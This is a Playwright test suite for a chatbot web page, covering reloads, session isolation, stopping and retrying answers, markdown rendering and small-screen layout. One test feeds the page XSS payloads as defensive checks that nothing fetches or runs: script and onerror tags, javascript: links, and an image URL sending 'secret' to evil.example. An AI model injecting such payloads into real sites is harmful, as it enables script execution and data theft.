"""The page, in a real browser."""

from __future__ import annotations

import re
import shutil
import time

import pytest
from chatbot.upstream import NO_ROLE, Say
from playwright.sync_api import expect, sync_playwright

CHROMIUM = shutil.which("chromium")
ARGUMENTS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine")


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture
def upstream(laptop):
    laptop[1].forget()
    return laptop[1]


@pytest.fixture
def chatbot(laptop, upstream):
    return laptop[0]


@pytest.fixture
def visit(browser, chatbot):
    """Open the page in a browser profile of its own; in the end nobody else was asked anything."""
    contexts, asked, complaints = [], [], []

    def complain(line):
        if line.type == "error" and not line.text.startswith("Failed to load resource"):
            complaints.append(line.text)

    def open_page(**options):
        context = browser.new_context(**options)
        contexts.append(context)
        page = context.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("console", complain)
        page.goto(chatbot.page)
        expect(page).to_have_title("Ask Ada")
        return page

    yield open_page
    for context in contexts:
        context.close()
    assert complaints == []
    assert [url for url in asked if not url.startswith(chatbot.page)] == []


def say(page, text):
    page.get_by_label("Message").fill(text)
    page.keyboard.press("Enter")


def answers(page):
    return page.locator(".assistant .answer")


def test_a_conversation_goes_on_and_survives_a_reload(visit, upstream):
    page = visit()
    say(page, "I am Ada.")
    expect(answers(page)).to_have_text(["Hello."])
    page.reload()
    expect(page.locator(".user")).to_have_text(["You: I am Ada."])
    say(page, "Who am I?")
    expect(answers(page)).to_have_text(["Hello.", "Hello."])
    assert [m["content"] for m in upstream.chats[-1]["messages"]] == [
        "I am Ada.",
        "Hello.",
        "Who am I?",
    ]


def test_two_browsers_never_see_each_other(visit, upstream):
    ada, bob = visit(), visit()
    say(ada, "My secret is 42.")
    expect(answers(ada)).to_have_text(["Hello."])
    bob.reload()
    expect(bob.locator("#messages > li")).to_have_count(0)
    say(bob, "What is the secret?")
    expect(answers(bob)).to_have_text(["Hello."])
    assert [m["content"] for m in upstream.chats[-1]["messages"]] == ["What is the secret?"]


def test_a_new_chat_forgets_and_the_last_one_can_be_brought_back(visit, upstream):
    page = visit()
    say(page, "One")
    expect(answers(page)).to_have_text(["Hello."])
    page.get_by_role("button", name="New chat").click()
    expect(page.get_by_role("heading", name="What is on your mind?")).to_be_visible()
    page.get_by_role("button", name="Bring back").click()
    expect(page.locator(".user")).to_have_text(["You: One"])
    page.get_by_role("button", name="New chat").click()
    say(page, "Two")
    expect(answers(page)).to_have_text(["Hello."])
    assert [m["content"] for m in upstream.chats[-1]["messages"]] == ["Two"]


def test_escape_stops_the_answer_here_and_upstream(visit, upstream):
    upstream.answers = [Say(("word ",) * 1000, pause=0.05)]
    page = visit()
    say(page, "Talk")
    expect(answers(page)).to_contain_text("word")
    page.keyboard.press("Escape")
    expect(page.get_by_text("You stopped this answer.")).to_be_visible()
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    deadline = time.monotonic() + 60
    while upstream.streaming:
        assert time.monotonic() < deadline
        page.wait_for_timeout(10)
    assert upstream.aborted == 1
    page.reload()
    expect(answers(page)).to_contain_text("word")


def test_an_answer_that_was_growing_survives_a_reload(visit, upstream):
    upstream.answers = [Say(("word ",) * 1000, pause=0.05)]
    page = visit()
    say(page, "Talk")
    expect(answers(page)).to_contain_text("word")
    page.reload()
    expect(answers(page)).to_contain_text("word")
    expect(page.locator(".error")).to_contain_text("closed before")
    page.get_by_role("button", name="Retry").click()
    expect(answers(page)).to_have_text(["Hello."])


def test_an_error_is_shown_in_words_and_can_be_retried(visit, upstream):
    upstream.answers = [NO_ROLE]
    page = visit()
    say(page, "Hi")
    expect(page.locator(".error")).to_contain_text("up to ten minutes")
    page.get_by_role("button", name="Retry").click()
    expect(answers(page)).to_have_text(["Hello."])
    expect(page.locator(".error")).to_have_count(0)
    assert [m["content"] for m in upstream.chats[-1]["messages"]] == ["Hi"]


def test_a_chatbot_that_went_away_is_told_in_words(visit, chatbot):
    page = visit()
    page.route("**/api/chat", lambda route: route.fulfill(status=502, body="Bad gateway"))
    say(page, "Hi")
    expect(page.locator(".error")).to_contain_text("could not be reached")


def test_shift_enter_is_a_new_line_and_composing_sends_nothing(visit, upstream):
    page = visit()
    field = page.get_by_label("Message")
    field.press_sequentially("one")
    page.keyboard.press("Shift+Enter")
    field.press_sequentially("two")
    field.dispatch_event("keydown", {"key": "Enter", "isComposing": True})
    expect(field).to_have_value("one\ntwo")
    page.keyboard.press("Enter")
    expect(answers(page)).to_have_text(["Hello."])
    assert upstream.chats[0]["messages"][0]["content"] == "one\ntwo"


def test_the_finished_answer_is_announced_once(visit, upstream):
    page = visit()
    say(page, "Hi")
    expect(page.get_by_role("status")).to_have_text("Hello.")


MARKDOWN = """# Title

A **bold _and italic_** word, `code <b>`, ~~gone~~, snake_case_name, 2 * 3 * 4, \\*plain\\*.
Second line with [a link](https://example.com/a_(b)) and https://example.com/x_y.

1. one
   - nested
   - [x] done
2. two

   ```py
   if a < b:
       pass
   ```
3. three

> quoted

| a | b |
|:--|--:|
| `x` | 1 |
"""


def test_markdown_becomes_nodes(visit, upstream):
    upstream.answers = [Say(tuple(re.findall(r"(?s).{1,3}", MARKDOWN)))]
    page = visit()
    say(page, "Show")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    answer = answers(page)
    expect(answer.locator("h2")).to_have_text("Title")
    expect(answer.locator("strong > em")).to_have_text("and italic")
    expect(answer.locator("p > code")).to_have_text("code <b>")
    expect(answer.locator("del")).to_have_text("gone")
    expect(answer.locator("p").first).to_contain_text("snake_case_name, 2 * 3 * 4, *plain*.")
    expect(answer.locator("p > br")).to_have_count(1)
    expect(answer.locator("p > a").first).to_have_attribute("href", "https://example.com/a_(b)")
    expect(answer.locator("p > a").last).to_have_attribute("href", "https://example.com/x_y")
    expect(answer.locator("p > a").first).to_have_attribute("rel", "noopener noreferrer")
    expect(answer.locator("> ol > li")).to_have_count(3)
    expect(answer.locator("> ol > li > ul > li")).to_have_text(["nested", "☑ done"])
    expect(answer.locator("li pre")).to_have_text("if a < b:\n    pass")
    expect(answer.locator("blockquote")).to_have_text("quoted")
    expect(answer.locator("td").last).to_have_class("right")


HOSTILE = """<img src="https://evil.example/a" onerror="alert(1)"> <script>alert(2)</script>

![secret](https://evil.example/?d=secret) [x](javascript:alert(3)) [y](data:text/html,hi)
[z](//evil.example) <javascript:alert(4)> [w](JaVaScRiPt:alert(5))
"""


def test_a_hostile_answer_fetches_nothing_and_runs_nothing(visit, upstream):
    upstream.answers = [Say((HOSTILE,))]
    page = visit()
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    say(page, "Attack")
    expect(answers(page)).to_contain_text('<img src="https://evil.example/a" onerror="alert(1)">')
    expect(answers(page).locator("img, script, iframe")).to_have_count(0)
    links = answers(page).locator("a").evaluate_all("nodes => nodes.map((node) => node.href)")
    assert {link.split(":")[0] for link in links} == {"https"}


def test_a_very_odd_answer_is_shown_in_reasonable_time(visit, upstream):
    odd = "**a *b _c ~~d `e [f](g ![h " * 2000 + "\n" + "> " * 500 + "- " * 500 + "x" + "|" * 5000
    upstream.answers = [Say((odd,))]
    page = visit()
    say(page, "Odd")
    expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=60_000)
    expect(answers(page)).to_contain_text("**a")


def test_a_team_greets_its_visitors_and_helps_them_to_begin(browser, launch, upstream):
    chatbot = launch(
        OPS_PORT=None,
        CHAT_WELCOME="<b>Welcome</b> to Contoso",
        CHAT_STARTERS='["What can you do?", "<i>Hours</i>"]',
        CHAT_DISCLAIMER="Do not enter secrets.",
    )
    context = browser.new_context()
    page = context.new_page()
    page.goto(chatbot.page)
    expect(page.get_by_role("heading", level=2)).to_have_text("<b>Welcome</b> to Contoso")
    expect(page.get_by_text("Do not enter secrets.")).to_be_visible()
    expect(page.get_by_role("button", name="<i>Hours</i>")).to_be_visible()
    page.get_by_role("button", name="What can you do?").click()
    expect(page.locator(".user")).to_contain_text("What can you do?")
    expect(answers(page)).not_to_be_empty()
    context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_narrowest_screen_needs_no_sideways_scrolling(visit, upstream, scheme):
    upstream.answers = [Say((MARKDOWN + "\n```\n" + "x" * 300 + "\n```\n" + "y" * 300,))]
    page = visit(viewport={"width": 320, "height": 560}, color_scheme=scheme)
    say(page, "z" * 300)
    expect(answers(page)).to_contain_text("yyy")
    assert page.evaluate("document.documentElement.scrollWidth") <= 320
